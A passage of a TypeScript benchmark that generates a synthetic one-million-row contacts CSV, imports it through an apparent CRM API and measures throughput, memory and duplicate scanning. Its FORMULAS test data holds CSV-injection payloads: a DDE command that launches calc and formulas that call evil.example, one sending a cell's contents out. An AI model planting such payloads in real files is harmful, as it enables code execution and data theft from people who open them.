/**
 * Figure 6 — import: a HubSpot-style contacts export of BENCH_IMPORT_ROWS rows (default 1,000,000)
 * uploaded with `POST /api/imports` (multipart, start=true) to a leadhub API process and run by ONE
 * worker process: upload time, the import's rows/s, the worker's peak memory, and the duplicate
 * scan that follows (the fuzzy pass) in leads/s. Beside it, in the same run, the physical limits:
 * `psql \copy` of the same file into a plain table with a unique index, and a set-based
 * `INSERT … SELECT … FROM generate_series` of as many leads into the real `leads` table (all its
 * indexes) of another tenant — the floor of writing leads at all.
 *
 * BENCH_IMPORT_KEEP_DB=<name> (lower-case letters, digits, _): the run uses the database <name> and
 * keeps it (drop it by hand). If <name> already holds a finished import, only the scan is run
 * again: the earlier scans' reviews and flags are undone (refused if one of them merged leads), a
 * new scan of that import is queued and measured; no file, no \copy, no floor, no import. Compare
 * such runs with each other, not with a full run: the first scan already set the rows' hint bits.
 */
import { cpSync, createReadStream, createWriteStream, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { request } from "node:http";
import { once } from "node:events";
import { randomBytes } from "node:crypto";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { finished } from "node:stream/promises";
import { matchKeys, type LeadLike } from "../core/dedup/keys.ts";
import { dedupGenerator } from "../test/support/dedup-set.ts";
import {
  createTenantAdmin,
  fmt,
  killTree,
  leadhubEnv,
  login,
  ratio,
  scratchDirs,
  sleep,
  spawnProc,
  spawnWorker,
  startServer,
  table,
  withPrefix,
  type BenchEnv,
  type BenchReport,
  type Proc,
} from "./lib.ts";
import pg from "pg";
import { appDatabaseUrl, createDb } from "../core/db.ts";
import { createQueues, jobId, producerConnection } from "../core/queues.ts";
import { ALL_TENANTS } from "../core/tenant-scope.ts";
import { migrate } from "../migrations/index.ts";
import { PG_ADMIN_URL } from "./lib.ts";
import { cpuSnapshot, cpuSplit, formatSplit, sampleWaits, waitForQuiet } from "./observe.ts";
import { monoMicros, profileArgs, profiling, summariseProfile } from "./profile.ts";

const ROWS = Number(process.env.BENCH_IMPORT_ROWS ?? 1_000_000);
/** After this the import is cancelled and its rate taken over the rows it did. */
const IMPORT_TIMEOUT_S = Number(process.env.BENCH_IMPORT_TIMEOUT_S ?? 1500);
/** After this the scan is left running (the worker is killed) and its rate taken over what it did. */
const SCAN_TIMEOUT_S = Number(process.env.BENCH_IMPORT_SCAN_TIMEOUT_S ?? 1800);
const POLL_MS = 500;
const MEMORY_GOAL_MB = 300;
const SEED = 20261123;
/** Rows repeating an earlier person (email written differently, or the phone in another format). */
const REPEAT_SHARE = 0.08;
/** Rows with neither a usable email nor a usable phone: rejected. */
const UNUSABLE_SHARE = 0.01;
/** Rows with a cell a spreadsheet would run as a formula. */
const FORMULA_SHARE = 0.001;
/** Earlier people kept to draw repeats from (a reservoir: any earlier row may come back). */
const POOL_SIZE = 200_000;
/** A database the run uses and keeps; when it holds a finished import, only the scan runs again (see the top). */
const KEEP_DB = process.env.BENCH_IMPORT_KEEP_DB;

/** A progress line: rewritten in place on a terminal, one line each in a log. */
const tick = (line: string) => (process.stdout.isTTY ? process.stdout.write(`\r${line.padEnd(110)}`) : console.log(line));
/** After the last tick on a terminal. */
const endTicks = () => process.stdout.isTTY && process.stdout.write("\n");

/** What run.ts adds to its watchdog when this benchmark is selected. */
export const importBudgetMs = () => (IMPORT_TIMEOUT_S + SCAN_TIMEOUT_S) * 1000 + 15 * 60_000;

// ---- the file --------------------------------------------------------------------------------

const HEADERS = [
  "Record ID",
  "First Name",
  "Last Name",
  "Email",
  "Phone Number",
  "Mobile Phone Number",
  "Company Name",
  "Job Title",
  "City",
  "State/Region",
  "Country/Region",
  "Lifecycle Stage",
  "Create Date",
];
const TITLES = [
  "",
  "",
  "Director",
  "Managing Director",
  "Proprietor",
  "Purchase Manager",
  "CEO",
  "Founder",
  "Head of Operations",
  "Sales Manager",
  "Marketing Manager",
  "Procurement Head",
  "Partner",
  "Software Engineer",
  "Owner",
  "Accountant",
  "VP Sales",
  "Consultant",
];
const STAGES = ["subscriber", "lead", "lead", "lead", "marketingqualifiedlead", "salesqualifiedlead", "opportunity", "customer", "other"];
const STATES: Record<string, string> = {
  Pune: "Maharashtra",
  Mumbai: "Maharashtra",
  Nagpur: "Maharashtra",
  Nashik: "Maharashtra",
  Kolhapur: "Maharashtra",
  Aurangabad: "Maharashtra",
  Delhi: "Delhi",
  Lucknow: "Uttar Pradesh",
  Kanpur: "Uttar Pradesh",
  Noida: "Uttar Pradesh",
  Jaipur: "Rajasthan",
  Indore: "Madhya Pradesh",
  Bhopal: "Madhya Pradesh",
  Patna: "Bihar",
  Chennai: "Tamil Nadu",
  Coimbatore: "Tamil Nadu",
  Madurai: "Tamil Nadu",
  Trichy: "Tamil Nadu",
  Salem: "Tamil Nadu",
  Hyderabad: "Telangana",
  Warangal: "Telangana",
  Vijayawada: "Andhra Pradesh",
  Visakhapatnam: "Andhra Pradesh",
  Guntur: "Andhra Pradesh",
  Kolkata: "West Bengal",
  Howrah: "West Bengal",
  Durgapur: "West Bengal",
  Siliguri: "West Bengal",
  Ahmedabad: "Gujarat",
  Surat: "Gujarat",
  Vadodara: "Gujarat",
  Rajkot: "Gujarat",
  Amritsar: "Punjab",
  Ludhiana: "Punjab",
  Jalandhar: "Punjab",
  Chandigarh: "Chandigarh",
  Patiala: "Punjab",
  Kochi: "Kerala",
  Thiruvananthapuram: "Kerala",
  Kozhikode: "Kerala",
  Thrissur: "Kerala",
  "New York": "NY",
  Boston: "MA",
  Chicago: "IL",
  Seattle: "WA",
};
const FORMULAS = [
  '=HYPERLINK("http://evil.example/x","Click, here")',
  "=1+2",
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
];

/** mulberry32, as the people generator: the same file for the same size, run after run. */
function prng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** RFC 4180: every cell quoted (as HubSpot exports), inner quotes doubled, CRLF between records. */
const csvLine = (cells: string[]) => `${cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(",")}\r\n`;

interface CsvStats {
  rows: number;
  bytes: number;
  seconds: number;
  people: number;
  repeats: number;
  unusable: number;
  formulas: number;
}

/** Streams the export to `path`, 64 KB at a time (never one big string). */
async function writeCsv(path: string, rows: number): Promise<CsvStats> {
  const t0 = performance.now();
  const gen = dedupGenerator(SEED);
  const rnd = prng(SEED + 1);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
  const pool: LeadLike[] = [];
  let seen = 0;
  const stats: CsvStats = { rows, bytes: 0, seconds: 0, people: 0, repeats: 0, unusable: 0, formulas: 0 };
  const createDate = () => {
    const d = new Date(Date.UTC(2023, 0, 1) + Math.floor(rnd() * 730 * 86_400_000));
    return d.toISOString().slice(0, 16).replace("T", " ");
  };
  const cellsOf = (p: LeadLike, i: number): string[] => {
    let first = p.first_name ?? "";
    let last = p.last_name ?? "";
    if (!first && !last && p.name) {
      const at = p.name.lastIndexOf(" ");
      [first, last] = at > 0 ? [p.name.slice(0, at), p.name.slice(at + 1)] : [p.name, ""];
    }
    // Most numbers in "Phone Number"; some exports only have the mobile column filled.
    const mobileOnly = rnd() < 0.25;
    const phone = p.phone ?? "";
    return [
      String(51_000_000 + i * 3),
      first,
      last,
      p.email ?? "",
      mobileOnly ? "" : phone,
      mobileOnly ? phone : "",
      p.company ?? "",
      pick(TITLES),
      p.city ?? "",
      STATES[p.city ?? ""] ?? "",
      p.country ?? "",
      pick(STAGES),
      createDate(),
    ];
  };
  /** The same person again, written differently: the email (case, Gmail dots, +tag) or the phone (another format, email left out). */
  const repeatOf = (p: LeadLike): LeadLike => {
    const again = { ...p };
    const [local, domain] = (p.email ?? "@").split("@");
    const way = rnd();
    if (way < 0.55 && p.email) {
      const forms = [
        `${local.toUpperCase()}@${domain}`,
        `${local[0].toUpperCase()}${local.slice(1)}@${domain.toUpperCase()}`,
        `${local}+${pick(["hs", "promo", "diwali", "webinar"])}@${domain}`,
        p.email,
      ];
      if (domain === "gmail.com")
        forms.push(`${local.replace(/\./g, "").split("").join(".")}@gmail.com`, `${local.replace(/\./g, "")}@googlemail.com`);
      again.email = pick(forms);
    } else {
      const e164 = matchKeys(p, { region: "IN" }).phoneKeys[0];
      if (e164?.startsWith("+91") && e164.length === 13) {
        const m = e164.slice(3);
        again.phone = pick([`0${m}`, `${m.slice(0, 5)} ${m.slice(5)}`, `+91-${m}`, `91${m}`, `(+91) ${m.slice(0, 5)}-${m.slice(5)}`, m]);
      } else if (e164) again.phone = pick([`00${e164.slice(1)}`, e164, `+${e164.slice(1, 3)} ${e164.slice(3)}`]);
      if (rnd() < 0.5) again.email = null;
    }
    return again;
  };

  const out = createWriteStream(path);
  let buf = csvLine(HEADERS);
  for (let i = 0; i < rows; i++) {
    const r = rnd();
    let cells: string[];
    if (r < UNUSABLE_SHARE) {
      // A name and a company, and contact cells nobody can reach.
      const p = gen.person();
      stats.people++;
      cells = cellsOf(
        {
          ...p,
          email: pick(["", "n/a", "not given", "rahul@", "www.example.in"]),
          phone: pick(["", "12345", "0000000000", "call office"]),
        },
        i,
      );
      stats.unusable++;
    } else if (r < UNUSABLE_SHARE + REPEAT_SHARE && pool.length) {
      cells = cellsOf(repeatOf(pool[Math.floor(rnd() * pool.length)]), i);
      stats.repeats++;
    } else {
      const p = gen.person();
      stats.people++;
      seen++;
      if (pool.length < POOL_SIZE) pool.push(p);
      else {
        const j = Math.floor(rnd() * seen);
        if (j < POOL_SIZE) pool[j] = p;
      }
      cells = cellsOf(p, i);
    }
    if (rnd() < FORMULA_SHARE) {
      cells[pick([1, 6, 7, 8])] = pick(FORMULAS);
      stats.formulas++;
    }
    buf += csvLine(cells);
    if (buf.length >= 65_536) {
      if (!out.write(buf)) await once(out, "drain");
      buf = "";
    }
    if (i % 100_000 === 99_999) tick(`  import: writing the file, ${fmt(i + 1)} / ${fmt(rows)} rows`);
  }
  out.end(buf);
  await finished(out);
  stats.bytes = statSync(path).size;
  stats.seconds = (performance.now() - t0) / 1000;
  if (rows >= 100_000) endTicks();
  return stats;
}

// ---- the physical limits ---------------------------------------------------------------------

interface Limit {
  seconds: number;
  perSecond: number;
  cpu: Record<string, number>;
}

/**
 * `psql \copy` of the file into a plain table, one text column per CSV column, a unique index on the
 * record id in place. psql stays up across the measurement (commands on its stdin), so that it and
 * its backend are still there to be accounted when the CPU is read.
 */
async function copyLimit(env: BenchEnv, path: string, rows: number): Promise<Limit> {
  const cols = HEADERS.map((h) => h.toLowerCase().replace(/[^a-z]+/g, "_"));
  const p = spawnProc(
    "psql",
    "psql",
    ["-X", "-q", "-v", "ON_ERROR_STOP=1", "-d", env.databaseUrl],
    { PATH: process.env.PATH, HOME: process.env.HOME },
    { stdin: true },
  );
  const say = async (commands: string, done: string, timeoutMs: number) => {
    const line = p.waitForLine(new RegExp(`^${done}$`), timeoutMs);
    p.child.stdin!.write(`${commands}\n\\echo ${done}\n`);
    await line;
  };
  try {
    await say(
      `CREATE TABLE bench_import_copy (${cols.map((c) => `${c} text`).join(", ")});\nCREATE UNIQUE INDEX ON bench_import_copy (record_id);`,
      "ready",
      60_000,
    );
    await waitForQuiet();
    const groups = { psql: p.child.pid! };
    const a = cpuSnapshot(groups, env.dbName);
    const t0 = performance.now();
    await say(`\\copy bench_import_copy FROM '${path.replace(/'/g, "''")}' WITH (FORMAT csv, HEADER true)`, "copied", 3_600_000);
    const seconds = (performance.now() - t0) / 1000;
    const cpu = cpuSplit(a, cpuSnapshot(groups, env.dbName));
    const n = Number((await env.db.raw("SELECT count(*)::bigint AS n FROM bench_import_copy")).rows[0].n);
    if (n !== rows) throw new Error(`\\copy took ${n} rows, the file has ${rows}`);
    return { seconds, perSecond: rows / seconds, cpu };
  } finally {
    p.child.stdin!.end("\\q\n");
    await killTree(p, "SIGTERM", 5000);
  }
}

const FIRST = [
  "Rahul",
  "Priya",
  "Amit",
  "Sneha",
  "Karthik",
  "Lakshmi",
  "Venkatesh",
  "Sourav",
  "Hardik",
  "Gurpreet",
  "Anoop",
  "Robert",
  "Fatima",
  "Wei",
  "Ananya",
  "Vikas",
  "Neha",
  "Arjun",
  "Swathi",
  "Mohammed",
  "Pooja",
  "Sachin",
  "Divya",
  "Harpreet",
];
const LAST = [
  "Patil",
  "Sharma",
  "Iyer",
  "Reddy",
  "Banerjee",
  "Patel",
  "Singh",
  "Nair",
  "Smith",
  "Khan",
  "Tan",
  "Deshmukh",
  "Gupta",
  "Kulkarni",
  "Mehta",
  "Ghosh",
];
const CITIES = ["Pune", "Mumbai", "Delhi", "Chennai", "Hyderabad", "Kolkata", "Ahmedabad", "Kochi", "Bengaluru", "Jaipur"];
const COMPANIES = [
  "Sahyadri Infra Pvt Ltd",
  "Kaveri Textiles LLP",
  "Ganga Logistics Ltd",
  "Nilgiri Foods Pvt Ltd",
  "Deccan Realty",
  "Indus Fintech Pvt Ltd",
  "Apex Builders",
  "Zenith Polymers Ltd",
];
const arr = (xs: string[]) => `ARRAY[${xs.map((x) => `'${x}'`).join(",")}]`;

/**
 * INSERT … SELECT … FROM generate_series into `leads` of a fresh tenant, 100,000 rows a statement,
 * every column intake and import fill (names, email and phone forms, company, place, matching keys,
 * custom fields) filled, so every index of the table does its work: the floor of writing leads.
 */
async function leadsFloor(env: BenchEnv, rows: number): Promise<Limit> {
  const [{ id: tenantId }] = await env
    .db("tenants")
    .insert({ name: "Import floor bench", slug: `import-floor-${env.runId}` })
    .returning("id");
  const chunk = 100_000;
  await waitForQuiet();
  const a = cpuSnapshot({}, env.dbName);
  const t0 = performance.now();
  for (let from = 1; from <= rows; from += chunk) {
    const to = Math.min(rows, from + chunk - 1);
    await env.db.raw(
      `INSERT INTO leads (tenant_id, lead_number, first_name, last_name, email, email_canonical, phone, phone_e164, phone_national, company,
         company_normalized, job_title, city, state, country, source, custom_fields, validation_notes, email_key, email_local, name_key, company_key,
         import_row, last_activity_at)
       SELECT ?::uuid, 'FLOOR-' || lpad(g::text, 8, '0'), n.f, n.l, lower(n.f || '.' || n.l || g) || '@gmail.com', lower(n.f || n.l || g) || '@gmail.com',
         '+91 98' || lpad(g::text, 8, '0'), '+9198' || lpad(g::text, 8, '0'), '98' || lpad(g::text, 8, '0'), n.c, lower(n.c), 'Director', n.city,
         'Maharashtra', 'India', 'csv_import',
         jsonb_build_object('record_id', (51000000 + g * 3)::text, 'lifecycle_stage', 'lead', 'create_date', '2025-03-14 09:12'), '[]'::jsonb,
         lower(n.f || n.l || g) || '@gmail.com', lower(n.f || n.l || g), lower(least(n.f, n.l) || ' ' || greatest(n.f, n.l)),
         lower(replace(n.c, ' ', '')), g, now()
       FROM generate_series(?::int, ?::int) g
       CROSS JOIN LATERAL (SELECT (${arr(FIRST)})[1 + g % ${FIRST.length}] AS f, (${arr(LAST)})[1 + (g / ${FIRST.length}) % ${LAST.length}] AS l,
         (${arr(COMPANIES)})[1 + g % ${COMPANIES.length}] AS c, (${arr(CITIES)})[1 + g % ${CITIES.length}] AS city) n`,
      [tenantId, from, to],
    );
    if (rows > chunk) tick(`  import: leads floor, ${fmt(to)} / ${fmt(rows)} rows`);
  }
  const seconds = (performance.now() - t0) / 1000;
  const cpu = cpuSplit(a, cpuSnapshot({}, env.dbName));
  if (rows > chunk) endTicks();
  return { seconds, perSecond: rows / seconds, cpu };
}

// ---- leadhub ---------------------------------------------------------------------------------

/** VmRSS and VmHWM of a process, in MB; null once it is gone. */
function memoryOf(pid: number): { rss: number; hwm: number } | null {
  try {
    const s = readFileSync(`/proc/${pid}/status`, "utf8");
    const kb = (k: string) => Number(s.match(new RegExp(`^${k}:\\s+(\\d+) kB`, "m"))?.[1] ?? NaN);
    return { rss: kb("VmRSS") / 1024, hwm: kb("VmHWM") / 1024 };
  } catch {
    return null;
  }
}

/**
 * The process must be node running the script itself (spawnTs: `node --import tsx script`, no
 * wrapper). Its children are named with their memory: tsx's esbuild service is one, and is not
 * part of the worker's own RSS.
 */
function checkNodeProcess(pid: number, script: string): string {
  const argv = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0").filter(Boolean);
  if (argv[0] !== process.execPath || !argv.includes(script))
    throw new Error(`pid ${pid} is not node running ${script}: ${argv.join(" ")}`);
  const children = readdirSync("/proc").flatMap((d) => {
    try {
      const stat = readFileSync(`/proc/${d}/stat`, "utf8");
      if (!Number(d) || stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1] !== String(pid)) return [];
      return [`${stat.slice(stat.indexOf("(") + 1, stat.lastIndexOf(")"))} (pid ${d}, RSS ${memoryOf(Number(d))?.rss.toFixed(0)} MB)`];
    } catch {
      return [];
    }
  });
  return `pid ${pid} is ${argv.map((a) => (a === process.execPath ? "node" : a)).join(" ")}; ${children.length ? `its children, not counted: ${children.join(", ")}` : "no child processes"}`;
}

/** multipart/form-data by hand, the file streamed from disk: `start=true`, then `file`. */
async function upload(url: string, token: string, path: string, size: number): Promise<{ seconds: number; status: number; body: string }> {
  const boundary = `----leadhub-bench-${randomBytes(8).toString("hex")}`;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="start"\r\n\r\ntrue\r\n` +
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="hubspot-contacts-export.csv"\r\nContent-Type: text/csv\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const t0 = performance.now();
  const req = request(`${url}/api/imports`, {
    method: "POST",
    headers: {
      authorization: `Bearer ${token}`,
      "content-type": `multipart/form-data; boundary=${boundary}`,
      "content-length": head.length + size + tail.length,
    },
  });
  const answered = new Promise<{ status: number; body: string }>((resolve, reject) => {
    req.once("error", reject);
    req.once("response", async (res) => {
      let body = "";
      for await (const c of res) body += c;
      resolve({ status: res.statusCode ?? 0, body });
    });
  });
  req.write(head);
  for await (const chunk of createReadStream(path, { highWaterMark: 1024 * 1024 })) {
    if (!req.write(chunk)) await Promise.race([once(req, "drain"), answered]);
  }
  req.end(tail);
  const r = await answered;
  return { ...r, seconds: (performance.now() - t0) / 1000 };
}

interface ImportRow {
  id: string;
  status: string;
  total_rows: number;
  processed_rows: number;
  imported: number;
  merged: number;
  flagged: number;
  rejected: number;
  error: string | null;
  dedup_scan_id: string | null;
  proposed_mapping: Record<string, string>;
  started_at: string | null;
  finished_at: string | null;
  updated_at: string;
}
interface ScanRow {
  status: string;
  processed: number;
  total: number;
  merged: number;
  reviews: number;
  error: string | null;
  started_at: string | null;
  finished_at: string | null;
  updated_at: string;
}

/** Peak VmRSS sampled every POLL_MS. */
class RssSampler {
  max = 0;
  constructor(private pid: number) {}
  sample() {
    const m = memoryOf(this.pid);
    if (m && m.rss > this.max) this.max = m.rss;
    return m;
  }
}

const secs = (a: string | null, b: string | null) => (a && b ? (new Date(b).getTime() - new Date(a).getTime()) / 1000 : NaN);
const progressOut = (line: string, last: { at: number }) => {
  // A terminal gets the line rewritten every poll; a log, a line every 10 s.
  if (process.stdout.isTTY) tick(line);
  else if (performance.now() - last.at > 10_000) {
    tick(line);
    last.at = performance.now();
  }
};

interface LeadhubRun extends Omit<ScanMeasure, "scan"> {
  upload: { seconds: number; cpu: Record<string, number>; apiHwm: number };
  imp: ImportRow;
  importSeconds: number;
  importRate: number;
  importTimedOut: boolean;
  importCpu: Record<string, number>;
  importWaits: { waits: Record<string, number>; topQueries: string };
  importRss: number;
  scan: ScanRow | null;
  workerStartRss: number;
  workerHwm: number;
  workerCheck: string;
  importProfile?: string;
  scanProfile?: string;
}

interface ScanMeasure {
  scan: ScanRow;
  scanSeconds: number;
  scanRate: number;
  scanTimedOut: boolean;
  scanCpu: Record<string, number>;
  scanWaits: { waits: Record<string, number>; topQueries: string };
  scanRss: number;
}

/** Polls a running scan every POLL_MS until it is done (or SCAN_TIMEOUT_S), printing its progress; its rate, CPU and waits. */
async function measureScan(
  env: BenchEnv,
  wpid: number,
  groups: Record<string, number>,
  poll: () => Promise<ScanRow>,
  last: { at: number },
): Promise<ScanMeasure> {
  const scanSampler = new RssSampler(wpid);
  const s0 = cpuSnapshot(groups, env.dbName);
  const stopScanWaits = sampleWaits(env, 250);
  const st = performance.now();
  let scan: ScanRow;
  let scanTimedOut = false;
  for (;;) {
    await sleep(POLL_MS);
    const m = scanSampler.sample();
    scan = await poll();
    const el = (performance.now() - st) / 1000;
    const rate = scan.processed / Math.max(0.001, secs(scan.started_at, scan.updated_at));
    progressOut(
      `  scan: ${scan.status} ${fmt(scan.processed)} / ${fmt(scan.total)} leads, ${Number.isFinite(rate) ? fmt(rate) : "–"} leads/s, merged ${fmt(scan.merged)}, ` +
        `reviews ${fmt(scan.reviews)}, worker RSS ${m?.rss.toFixed(0)} MB, ${el.toFixed(0)} s`,
      last,
    );
    if (scan.status === "done" || scan.status === "failed") break;
    if (el > SCAN_TIMEOUT_S) {
      scanTimedOut = true;
      break;
    }
  }
  const scanCpu = cpuSplit(s0, cpuSnapshot(groups, env.dbName));
  const scanWaits = await stopScanWaits();
  endTicks();
  if (scan.status === "failed") throw new Error(`the duplicate scan failed: ${scan.error}`);
  // At the timeout the scan is still running: its progress row is written after every batch, updated_at with it.
  const scanSeconds = secs(scan.started_at, scan.finished_at ?? scan.updated_at);
  const scanRate = scan.processed / scanSeconds;
  console.log(
    `  scan: ${scan.status}${scanTimedOut ? ` (STILL RUNNING AT BENCH_IMPORT_SCAN_TIMEOUT_S=${SCAN_TIMEOUT_S} s; rate over what it processed)` : ""}, ` +
      `${fmt(scan.processed)} / ${fmt(scan.total)} leads in ${scanSeconds.toFixed(1)} s → ${fmt(scanRate, 1)} leads/s; merged ${fmt(scan.merged)}, reviews ${fmt(scan.reviews)}` +
      `\n      CPU (cores of 2): ${formatSplit(scanCpu)}\n      busy PostgreSQL backends (avg): ${formatSplit(scanWaits.waits)}\n      statements most seen running: ${scanWaits.topQueries}`,
  );
  return { scan, scanSeconds, scanRate, scanTimedOut, scanCpu, scanWaits, scanRss: scanSampler.max };
}

async function leadhub(runEnv: BenchEnv, path: string, size: number, dataDir: string): Promise<LeadhubRun> {
  const env = withPrefix(runEnv, "import");
  const admin = await createTenantAdmin(env, "import");
  const extra = { LEADHUB_DATA_DIR: dataDir };
  const prof = profiling() ? profileArgs() : null;
  let api: { p: Proc; url: string } | undefined;
  let worker: Proc | undefined;
  const windows = { import: [0, 0], scan: [0, 0] };
  let out: LeadhubRun | undefined;
  try {
    api = await startServer("leadhub api", "bench/servers/leadhub-api.ts", leadhubEnv(env, extra));
    worker = spawnWorker("worker", leadhubEnv(env, extra), prof?.args);
    await worker.waitForLine(/^ready$/, 60_000);
    const wpid = worker.child.pid!;
    const workerCheck = checkNodeProcess(wpid, "bench/servers/worker.ts");
    const started = worker.waitForLine(/^started$/, 60_000);
    worker.child.stdin!.write("go\n");
    await started;
    const workerStartRss = memoryOf(wpid)!.rss;
    const token = await login(api.url, admin.email, admin.password);
    const get = async <T>(p: string): Promise<T> => {
      const res = await fetch(`${api!.url}${p}`, { headers: { authorization: `Bearer ${token}` } });
      if (!res.ok) throw new Error(`GET ${p} answered ${res.status}: ${await res.text()}`);
      return res.json() as Promise<T>;
    };
    const groups = { "leadhub api": api.p.child.pid!, worker: wpid };

    // 1. Upload: the file through the API to its data dir, the import queued.
    await waitForQuiet();
    const rss = new RssSampler(wpid);
    const u0 = cpuSnapshot(groups, env.dbName);
    const up = await upload(api.url, token, path, size);
    const uploadCpu = cpuSplit(u0, cpuSnapshot(groups, env.dbName));
    if (up.status !== 201) throw new Error(`POST /api/imports answered ${up.status}: ${up.body.slice(0, 500)}`);
    const created = JSON.parse(up.body) as ImportRow;
    const apiHwm = memoryOf(api.p.child.pid!)?.hwm ?? NaN;
    console.log(
      `  upload: ${(size / 1e6).toFixed(1)} MB in ${up.seconds.toFixed(2)} s → ${(size / 1e6 / up.seconds).toFixed(1)} MB/s; API peak RSS ${apiHwm.toFixed(0)} MB; CPU: ${formatSplit(uploadCpu)}`,
    );
    console.log(
      `  mapping proposed: ${Object.entries(created.proposed_mapping)
        .map(([h, t]) => `${h} → ${t}`)
        .join(", ")}`,
    );

    // 2. The import, polled every 500 ms until done (or cancelled at the timeout).
    const i0 = cpuSnapshot(groups, env.dbName);
    const stopWaits = sampleWaits(env, 250);
    windows.import[0] = monoMicros();
    const t0 = performance.now();
    let imp = created;
    let importTimedOut = false;
    const last = { at: performance.now() };
    for (;;) {
      await sleep(POLL_MS);
      const m = rss.sample();
      imp = await get<ImportRow>(`/api/imports/${created.id}`);
      const el = (performance.now() - t0) / 1000;
      progressOut(
        `  import: ${imp.status} ${fmt(imp.processed_rows)} / ${fmt(imp.total_rows)} rows (${((100 * imp.processed_rows) / Math.max(1, imp.total_rows)).toFixed(1)}%), ` +
          `${fmt(imp.processed_rows / el)} rows/s, worker RSS ${m?.rss.toFixed(0)} MB, ${el.toFixed(0)} s`,
        last,
      );
      if (["done", "failed", "cancelled"].includes(imp.status)) break;
      if (!importTimedOut && el > IMPORT_TIMEOUT_S) {
        importTimedOut = true;
        const res = await fetch(`${api.url}/api/imports/${created.id}/cancel`, {
          method: "POST",
          headers: { authorization: `Bearer ${token}` },
        });
        endTicks();
        console.log(
          `  import: over BENCH_IMPORT_TIMEOUT_S=${IMPORT_TIMEOUT_S} s, cancelled (${res.status}); the rate below is over the rows processed so far`,
        );
      }
    }
    windows.import[1] = monoMicros();
    const importCpu = cpuSplit(i0, cpuSnapshot(groups, env.dbName));
    const importWaits = await stopWaits();
    const importRss = rss.max;
    endTicks();
    if (imp.status === "cancelled") {
      await sleep(2000); // a batch being written when the cancel came commits or not: read the final counts
      imp = await get<ImportRow>(`/api/imports/${created.id}`);
    }
    if (imp.status === "failed") throw new Error(`the import failed: ${imp.error}`);
    // The import's own clock: started_at when the job took it, finished_at when the last batch committed (or the cancel).
    const importSeconds = secs(imp.started_at, imp.finished_at ?? imp.updated_at);
    const importRate = imp.processed_rows / importSeconds;
    console.log(
      `  import: ${imp.status}${importTimedOut ? " (CANCELLED AT THE TIMEOUT)" : ""}, ${fmt(imp.processed_rows)} rows in ${importSeconds.toFixed(1)} s → ${fmt(importRate)} rows/s; ` +
        `imported ${fmt(imp.imported)}, merged ${fmt(imp.merged)}, flagged ${fmt(imp.flagged)}, rejected ${fmt(imp.rejected)}; worker peak RSS (sampled) ${importRss.toFixed(0)} MB` +
        `\n      CPU (cores of 2): ${formatSplit(importCpu)}\n      busy PostgreSQL backends (avg): ${formatSplit(importWaits.waits)}\n      statements most seen running: ${importWaits.topQueries}`,
    );

    // 3. The duplicate scan the import started (the fuzzy pass).
    let measured: ScanMeasure | null = null;
    if (imp.dedup_scan_id) {
      windows.scan[0] = monoMicros();
      measured = await measureScan(env, wpid, groups, () => get<ScanRow>(`/api/dedup_scans/${imp.dedup_scan_id}`), last);
      windows.scan[1] = monoMicros();
    }
    const { scan, scanSeconds, scanRate, scanTimedOut, scanCpu, scanWaits, scanRss } = measured ?? {
      scan: null,
      scanSeconds: NaN,
      scanRate: NaN,
      scanTimedOut: false,
      scanCpu: {},
      scanWaits: { waits: {}, topQueries: "" },
      scanRss: 0,
    };
    const workerHwm = memoryOf(wpid)?.hwm ?? NaN;
    console.log(`  worker: ${workerCheck}; RSS ${workerStartRss.toFixed(0)} MB when started, peak ${workerHwm.toFixed(0)} MB (VmHWM)`);
    out = {
      upload: { seconds: up.seconds, cpu: uploadCpu, apiHwm },
      imp,
      importSeconds,
      importRate,
      importTimedOut,
      importCpu,
      importWaits,
      importRss,
      scan,
      scanSeconds,
      scanRate,
      scanTimedOut,
      scanCpu,
      scanWaits,
      scanRss,
      workerStartRss,
      workerHwm,
      workerCheck,
    };
  } finally {
    await Promise.all([api && killTree(api.p), worker && killTree(worker)]); // the profile is written as the worker exits
    if (prof && out) {
      const copy = `${prof.dir}-scan`;
      cpSync(prof.dir, copy, { recursive: true });
      out.importProfile = summariseProfile(prof.dir, windows.import[0], windows.import[1]);
      out.scanProfile = windows.scan[1] ? summariseProfile(copy, windows.scan[0], windows.scan[1]) : undefined;
      rmSync(copy, { recursive: true, force: true });
      console.log(`  CPU profile of the worker, import: ${out.importProfile}`);
      if (out.scanProfile) console.log(`  CPU profile of the worker, scan: ${out.scanProfile}`);
    } else if (prof) rmSync(prof.dir, { recursive: true, force: true });
  }
  return out!;
}

// ---- the figure ------------------------------------------------------------------------------

export async function benchImport(runEnv: BenchEnv): Promise<BenchReport> {
  const kept = KEEP_DB ? await keptDatabase(runEnv, KEEP_DB) : null;
  try {
    const done =
      kept && (await kept.db("imports").where("status", "done").whereNotNull("dedup_scan_id").orderBy("created_at", "desc").first());
    return kept && done ? await scanAgain(kept, done) : await fullRun(kept ?? runEnv);
  } finally {
    await kept?.db.destroy();
  }
}

/** BENCH_IMPORT_KEEP_DB's database, created if absent, migrated; the run's Redis prefix. */
async function keptDatabase(runEnv: BenchEnv, name: string): Promise<BenchEnv> {
  if (!/^[a-z0-9_]+$/.test(name)) throw new Error(`BENCH_IMPORT_KEEP_DB=${name}: lower-case letters, digits and _ only`);
  const c = new pg.Client({ connectionString: PG_ADMIN_URL });
  await c.connect();
  try {
    const { rowCount } = await c.query("SELECT 1 FROM pg_database WHERE datname = $1", [name]);
    if (!rowCount) await c.query(`CREATE DATABASE ${name}`);
  } finally {
    await c.end();
  }
  const url = new URL(PG_ADMIN_URL);
  url.pathname = `/${name}`;
  const db = createDb(url.href, { scope: ALL_TENANTS });
  await migrate(db, appDatabaseUrl(url.href));
